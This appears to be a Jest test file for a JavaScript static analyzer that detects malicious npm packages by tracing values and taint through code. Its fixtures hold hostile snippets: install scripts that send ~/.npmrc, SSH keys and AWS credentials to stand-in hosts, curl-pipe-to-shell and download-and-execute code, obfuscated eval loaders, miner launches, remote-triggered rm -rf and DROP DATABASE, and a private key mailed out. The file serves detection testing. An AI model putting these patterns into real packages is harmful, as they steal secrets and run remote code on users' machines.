/**
 * The evaluator carries values through data structures, loops, destructuring, function calls,
 * closures, classes and package-local modules (issue 9 point 2 and "C. Behaviour, not strings").
 * Each construct is checked by what reaches a sink: commands, URLs, file paths, taint.
 */
import { analyzeSource, threatsOf } from './helpers';

const commands = (files: Record<string, string>) => analyzeSource(files).capabilities.process.commands;
const domains = (files: Record<string, string>) => analyzeSource(files).capabilities.network.domains;

describe('values through data structures', () => {
  it('array and object literals, nested members', () => {
    expect(
      commands({
        'a.js': `const cfg = { tools: [{ bin: 'rsync' }, { bin: 'tar' }] };
require('child_process').spawn(cfg.tools[1].bin, []);`,
      }),
    ).toEqual(['tar']);
  });
  it('array spread and object spread', () => {
    expect(
      commands({
        'a.js': `const base = ['ffmpeg']; const all = [...base, 'convert'];
const o = { ...{ exe: all[1] } };
require('child_process').execFileSync(o.exe, ['-v']);`,
      }),
    ).toEqual(['convert']);
  });
  it('for…of over a constant array, each element reaches the sink', () => {
    expect(
      commands({
        'a.js': `const { execSync } = require('child_process');
for (const c of ['uname -a', 'whoami', 'id']) execSync(c);`,
      }).sort(),
    ).toEqual(['id', 'uname', 'whoami']);
  });
  it('for…in, Object.keys / values / entries over a constant object', () => {
    expect(
      domains({
        'a.js': `const hosts = { a: 'https://one.example/x', b: 'https://two.example/y' };
for (const k in hosts) fetch(hosts[k]);
Object.values({ c: 'https://three.example' }).forEach((u) => fetch(u));
for (const [, u] of Object.entries({ d: 'https://four.example' })) fetch(u);`,
      }).sort(),
    ).toEqual(['four.example', 'one.example', 'three.example', 'two.example']);
  });
  it('arrays filled with push keep their elements', () => {
    expect(
      commands({
        'a.js': `const jobs = []; jobs.push({ bin: 'nohup' }); jobs.push({ bin: 'xmrig' });
for (const j of jobs) require('child_process').spawn(j.bin, ['-B']);`,
      }).sort(),
    ).toEqual(['nohup', 'xmrig']);
  });
  it('.map callbacks return values', () => {
    expect(
      domains({
        'a.js': `const urls = ['alpha', 'beta'].map((n) => 'https://' + n + '.example/ping');
urls.forEach((u) => fetch(u, { method: 'POST' }));`,
      }).sort(),
    ).toEqual(['alpha.example', 'beta.example']);
  });
  it('destructuring: nested, defaults, rest, parameters', () => {
    expect(
      commands({
        'a.js': `const { spawn } = require('child_process');
const { a: { cmd = 'curl' } = {}, ...rest } = { a: {}, other: 'wget' };
function go({ bin }, [first, ...more]) { spawn(bin, [first, ...more]); }
go({ bin: cmd }, ['-s']);
spawn(rest.other, []);`,
      }).sort(),
    ).toEqual(['curl', 'wget']);
  });
});

describe('values through functions', () => {
  it('a helper that wraps the sink gets the arguments', () => {
    expect(
      commands({
        'a.js': `const cp = require('child_process');
function run(c, a) { return cp.spawnSync(c, a); }
run('powershell', ['-NoProfile']);`,
      }),
    ).toEqual(['powershell']);
  });
  it('return values of local functions and arrow functions', () => {
    expect(
      domains({
        'a.js': `function buildUrl() { const host = 'collect' + '.' + 'example'; return 'https://' + host + '/in'; }
const path = () => '/v1';
const u = buildUrl() + path();
require('https').request(u).end();`,
      }),
    ).toEqual(['collect.example']);
  });
  it('closures see the variables of the scope they were defined in', () => {
    expect(
      commands({
        'a.js': `function make(bin) { return (arg) => require('child_process').execFileSync(bin, [arg]); }
const runNc = make('nc');
runNc('-h');`,
      }),
    ).toEqual(['nc']);
  });
  it('class fields set in the constructor reach methods; object methods get this', () => {
    expect(
      commands({
        'a.js': `const { spawn } = require('child_process');
class Job { constructor(bin) { this.bin = bin; } start(args) { return spawn(this.bin, args); } }
new Job('xmrig').start(['-o', 'pool.example:3333']);
const api = { bin: 'socat', go() { spawn(this.bin, []); } };
api.go();`,
      }).sort(),
    ).toEqual(['socat', 'xmrig']);
  });
  it('.then on what a local async function returned', () => {
    expect(
      commands({
        'a.js': `async function getConfig() { return { cmd: 'curl', args: ['-s'] }; }
getConfig().then((c) => require('child_process').spawn(c.cmd, c.args));`,
      }),
    ).toEqual(['curl']);
  });
  it('fn.call / fn.apply pass their arguments', () => {
    expect(
      commands({
        'a.js': `function r(b) { require('child_process').spawn(b); }
r.call(null, 'bash'); r.apply(null, ['zsh']);`,
      }).sort(),
    ).toEqual(['bash', 'zsh']);
  });
  it('taint flows through parameters and return values to a network sink', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node i.js' } }),
      'i.js': `const fs = require('fs'); const os = require('os');
function grab(name) { return fs.readFileSync(os.homedir() + '/' + name, 'utf8'); }
function send(body) { return fetch('https://sink.example/c', { method: 'POST', body }); }
const files = ['.npmrc', '.ssh/id_rsa'];
for (const f of files) send(grab(f));`,
    });
    expect(threatsOf(r, 0.8)).toContain('data_exfiltration');
  });
  it('taint survives .map, try/catch returns and join into a request body', () => {
    const r = analyzeSource({
      'c.js': `const { readFileSync } = require('fs');
const { join } = require('path');
const paths = ['.npmrc', '.git-credentials'].map((f) => join(require('os').homedir(), f));
const loot = paths.map((f) => { try { return readFileSync(f, 'utf8'); } catch { return ''; } });
require('https').request({ host: 'drop.example', method: 'PUT', path: '/' }).end(loot.join('\\n'));`,
    });
    expect(threatsOf(r, 0.8)).toContain('data_exfiltration');
  });
  it('a || b and c ? a : b keep the taint of both sides', () => {
    const r = analyzeSource({
      'e.js': `const alias = (0, eval);
const src = process.env.npm_package_config_boot || Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();
alias(src);`,
    });
    expect(threatsOf(r, 0.8)).toContain('malicious_code');
  });
  it('a script received from the network and run is download-and-execute; a version parameter is not', () => {
    const bad = analyzeSource({
      'd.js': `const https = require('https');
const { spawn } = require('child_process');
https.get('https://cdn.payload.example/s.sh', (res) => {
  let body = '';
  res.on('data', (c) => (body += c));
  res.on('end', () => spawn('bash', ['-c', body], { stdio: 'ignore' }));
});
fetch('https://cdn.payload.example/n').then((r) => r.text()).then((s) => require('child_process').execSync(s));`,
    });
    expect(bad.evidence.filter((f) => f.rule === 'js.exec-network-data').length).toBe(2);
    expect(threatsOf(bad, 0.8)).toContain('malicious_code');
    const update = analyzeSource({
      'u.js': `const { execSync } = require('child_process');
fetch('https://updates.mycli.example/latest').then((r) => r.json()).then((info) => {
  execSync('npm install -g mycli@' + info.version, { stdio: 'inherit' });
});`,
    });
    expect(threatsOf(update)).toEqual([]);
  });
  it('recursion and huge call counts stay bounded', () => {
    const body = Array.from({ length: 3000 }, (_, i) => `f(${i});`).join('\n');
    const t0 = performance.now();
    const r = analyzeSource({
      'a.js': `function f(n) { return n > 0 ? f(n - 1) + g(n) : 0; } function g(x) { return f(x); }\n${body}`,
    });
    expect(performance.now() - t0).toBeLessThan(5000);
    expect(r.stats.parsed_files).toBe(1);
  });
});

describe('values across package files', () => {
  it('constants, objects and arrays exported by CommonJS and ESM modules', () => {
    const r = analyzeSource({
      'lib/conf.js': `module.exports = { ENDPOINT: 'https://cfg.example/api', BINS: ['wget'] };`,
      'lib/more.mjs': `export const HOST = 'esm.example'; export default { tool: 'scp' };`,
      'index.mjs': `import conf from './lib/conf.js'; import more, { HOST } from './lib/more.mjs';
import { spawn } from 'child_process';
fetch(conf.ENDPOINT); fetch('https://' + HOST + '/x');
spawn(conf.BINS[0], []); spawn(more.tool, []);`,
    });
    expect(r.capabilities.network.domains.sort()).toEqual(['cfg.example', 'esm.example']);
    expect(r.capabilities.process.commands.sort()).toEqual(['scp', 'wget']);
  });
  it('a function exported by one file wraps the sink for a call in another (require(...).run)', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        scripts: { install: 'node install.js' },
      }),
      'util/exec.js': `const { execSync } = require('child_process');
module.exports.run = (c) => execSync(c, { stdio: 'ignore' });`,
      'install.js': `require('./util/exec').run('curl -fsSL http://198.51.100.7/p.sh | sh');`,
    });
    expect(r.capabilities.process.commands).toEqual(expect.arrayContaining(['curl', 'sh']));
    expect(threatsOf(r, 0.8)).toContain('install_script_injection');
    expect(r.risk_level).toBe('critical');
  });
  it('data collected in one file and sent from another keeps its taint', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'x',
        version: '1.0.0',
        scripts: { postinstall: 'node send.js' },
      }),
      'collect.js': `const fs = require('fs');
module.exports = { blob: fs.readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8') };`,
      'send.js': `const { blob } = require('./collect');
require('https').request({ hostname: 'in.example', method: 'POST' }).end(blob);`,
    });
    expect(threatsOf(r, 0.8)).toContain('data_exfiltration');
  });
  it('require cycles do not loop', () => {
    const r = analyzeSource({
      'a.js': `const b = require('./b'); module.exports = { x: 'a' }; b.y;`,
      'b.js': `const a = require('./a'); module.exports = { y: a.x };`,
    });
    expect(r.stats.parsed_files).toBe(2);
  });
});

describe('values through promises', () => {
  it('what a Promise executor resolves with reaches .then callbacks and await', () => {
    const net = `const https = require('https');
function pull(u) {
  return new Promise((ok, bad) => https.get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => ok(b)); }).on('error', bad));
}`;
    const viaThen = analyzeSource({
      'a.js': `${net}\npull('https://cfg.example.test/x').then((code) => require('vm').runInThisContext(code));`,
    });
    expect(viaThen.evidence.map((e) => e.rule)).toContain('js.eval-network');
    const viaAwait = analyzeSource({
      'a.js': `${net}\n(async () => { const code = await pull('https://cfg.example.test/x'); new Function(code)(); })();`,
    });
    expect(viaAwait.evidence.map((e) => e.rule)).toContain('js.eval-network');
  });

  it('a promise resolved with a constant stays clean', () => {
    const r = analyzeSource({
      'a.js': `new Promise((ok) => ok('1 + 1')).then((c) => require('vm').runInThisContext(c));`,
    });
    expect(threatsOf(r)).not.toContain('malicious_code');
  });
});

describe('remote kill switches', () => {
  it('rm -rf ./* run when an HTTP request carries a secret header', () => {
    const r = analyzeSource({
      'a.js': `const http = require('http'); const cp = require('child_process');
http.createServer((req, res) => {
  if (req.headers['x-maint'] === 'k-77') { cp.execSync('rm -rf ./*', { cwd: process.cwd() }); res.end('ok'); }
  else res.end('{}');
}).listen(9911);`,
    });
    expect(r.evidence.map((e) => e.rule)).toContain('js.remote-triggered-destructive');
  });

  it('a database dropped when a fetched flag is set', () => {
    const r = analyzeSource({
      'a.js': `async function check(db) {
  const flag = await (await fetch('https://flags.example.test/f')).json();
  if (flag.purge) await db.query('DROP DATABASE app');
}
module.exports = check;`,
    });
    expect(r.evidence.map((e) => e.rule)).toContain('js.remote-triggered-destructive');
  });
});

describe('collections filled by mutation keep what they carry', () => {
  const send = `const r = require('https').request({ host: 'collect.example-cdn.net', method: 'POST', path: '/u' });`;
  const read = `require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')`;
  const flowRules = (code: string) =>
    analyzeSource({
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node i.js' } }),
      'i.js': code,
    }).evidence.map((f) => f.rule);
  it('set.add, splice, Object.assign, borrowed push (apply and call), a class that pushes into a field', () => {
    for (const code of [
      `const found = new Set(); for (const m of ${read}.matchAll(/_authToken=(\\S+)/g)) found.add(m[1]);\n${send} r.end([...found].join('\\n'));`,
      `const parts = ['start']; parts.splice(1, 0, ${read});\n${send} r.end(parts.join('|'));`,
      `const out = {}; Object.assign(out, { npmrc: ${read} });\n${send} r.end(JSON.stringify(out));`,
      `const acc = []; Array.prototype.push.apply(acc, ${read}.split('\\n'));\n${send} r.end(acc.join(';'));`,
      `const acc = []; [].push.call(acc, ${read});\n${send} r.end(acc.join(';'));`,
      `class Bag { constructor() { this.items = []; } add(x) { this.items.push(x); } dump() { return this.items.join('\\n'); } }
const b = new Bag(); b.add(${read});\n${send} r.end(b.dump());`,
    ])
      expect(flowRules(code)).toContain('js.exfil-flow');
  });
  it('the same collections filled with the package’s own build data are not a flow of secrets', () => {
    for (const code of [
      `const names = new Set(); for (const f of require('fs').readdirSync(__dirname + '/dist')) names.add(f);\n${send} r.end([...names].join('\\n'));`,
      `const meta = {}; Object.assign(meta, { version: require('./package.json').version });\n${send} r.end(JSON.stringify(meta));`,
    ])
      expect(flowRules(code)).not.toContain('js.exfil-flow');
  });
});

describe('values through streams, classes, generators, copies and child process output', () => {
  const install = (code: string) =>
    analyzeSource({
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node i.js' } }),
      'i.js': code,
    });
  const rules = (code: string) => install(code).evidence.map((f) => f.rule);
  const req = `require('https').request({ host: 'sync.example-cdn.net', path: '/up', method: 'PUT' })`;
  const home = `require('os').homedir()`;
  it('a credential file streamed into a request (pipe, stream.pipeline)', () => {
    expect(rules(`require('fs').createReadStream(${home} + '/.npmrc').pipe(${req});`)).toContain(
      'js.exfil-flow',
    );
    expect(
      rules(`const { pipeline } = require('stream');
pipeline(require('fs').createReadStream(${home} + '/.aws/credentials'), require('zlib').createGzip(), ${req}, () => {});`),
    ).toContain('js.exfil-flow');
  });
  it("a class's static method and static field, a generator's yields, a structured clone of the environment", () => {
    for (const code of [
      `class Reporter { static send(x) { ${req}.end(x); } }\nReporter.send(JSON.stringify(process.env));`,
      `class Cfg { static CMD = ['curl', '-s', 'https://get.example-cdn.net/x.sh']; }
const { execFileSync } = require('child_process');
execFileSync('sh', ['-c', execFileSync(Cfg.CMD[0], Cfg.CMD.slice(1)).toString()]);`,
      `function* secrets() { for (const k of Object.keys(process.env)) if (/TOKEN/.test(k)) yield k + '=' + process.env[k]; }
${req}.end([...secrets()].join('&'));`,
      `const copy = structuredClone(process.env);\n${req}.end(JSON.stringify(copy));`,
    ])
      expect(install(code).risk_level).toBe('critical');
  });
  it('what a downloader prints is what the server sent: run, evaluated, or a CLI token sent on', () => {
    const cp = `const cp = require('child_process');`;
    expect(
      rules(`${cp} cp.execSync(cp.execSync('curl -fsSL https://get.example-cdn.net/x.sh').toString());`),
    ).toContain('js.exec-network-data');
    expect(
      rules(`${cp} cp.exec('curl -s https://get.example-cdn.net/x.sh', (e, out) => { cp.exec(out); });`),
    ).toContain('js.exec-network-data');
    expect(
      rules(
        `${cp} eval(cp.execFileSync('wget', ['-qO-', 'https://get.example-cdn.net/p.js'], { encoding: 'utf8' }));`,
      ),
    ).toContain('js.eval-network');
    expect(
      rules(
        `${cp} cp.exec('gh auth token', (e, tok) => { require('https').get('https://sync.example-cdn.net/t?v=' + tok); });`,
      ),
    ).toContain('js.secret-env-to-network');
  });
  it('quiet: a version check printed, a download saved to a file, its own build output uploaded, a generator of constants', () => {
    for (const code of [
      `require('child_process').execFile('curl', ['-s', 'https://api.example.com/latest'], (e, out) => console.log(JSON.parse(out).version));`,
      `const cp = require('child_process'); cp.execFileSync('curl', ['-o', 'vendor.tgz', 'https://get.example.com/v.tgz']); console.log(cp.execFileSync('curl', ['-s', 'https://api.example.com/v']).toString());`,
      `require('fs').createReadStream(__dirname + '/dist/report.json').pipe(${req});`,
      `function* sizes() { yield 16; yield 32; }\n${req}.end(JSON.stringify([...sizes()]));`,
    ])
      expect(threatsOf(install(code))).toEqual([]);
  });
});

describe('loops on known counters, string tables rotated in place, key material re-encoded and mailed', () => {
  const load = (files: Record<string, string>) =>
    analyzeSource({
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' }),
      ...files,
    });
  it('a string table rotated by push(shift()) in a counter loop gives the names the obfuscator meant', () => {
    // The table as written, then the rotation an obfuscator adds: one turn puts 'constructor' at index 1.
    const code = `const T = ['cG9zdA==', 'from', 'constructor', 'Y29uc29sZS5sb2coMSk=', 'base64', 'toString'];
(function (arr, n) { const r = function (c) { while (--c) { arr['push'](arr['shift']()); } }; r(++n); })(T, 1);
function at(i) { i = i - 0x10; return T[i]; }
const F = (function () {})[at(0x11)];
F(Buffer[at(0x10)](T[2], at(0x13))[at(0x14)]())();`;
    expect(load({ 'index.js': code }).evidence.map((f) => f.rule)).toContain('js.eval-decoded');
  });
  it('a for loop with a known bound runs its turns; an unknown bound walks the body once', () => {
    expect(
      commands({
        'a.js': `const parts = ['w', 'h', 'o', 'a', 'm', 'i']; let s = '';
for (let i = 0; i < 6; i++) s += parts[i];
require('child_process').execSync(s);`,
      }),
    ).toEqual(['whoami']);
  });
  it('a private key re-encoded with base58 and mailed to an address written in the code', () => {
    const r = load({
      'index.js': `const bs58 = require('bs58');
const mail = require('nodemailer').createTransport({ host: 'smtp.example-mail.net', port: 465 });
exports.transfer = ({ secretKey, to }) => {
  const raw = bs58.decode(secretKey);
  mail.sendMail({ to: 'collector@example-mail.net', text: bs58.encode(raw) });
  return to;
};`,
    });
    expect(r.evidence.map((f) => f.rule)).toContain('js.key-material-exfil');
  });
  it('quiet: a mailer that sends what its caller wrote to whom its caller names', () => {
    const r = load({
      'index.js': `const mail = require('nodemailer').createTransport(process.env.SMTP_URL);
exports.notify = ({ to, subject, text }) => mail.sendMail({ to, subject, text });`,
    });
    expect(threatsOf(r)).toEqual([]);
  });
});
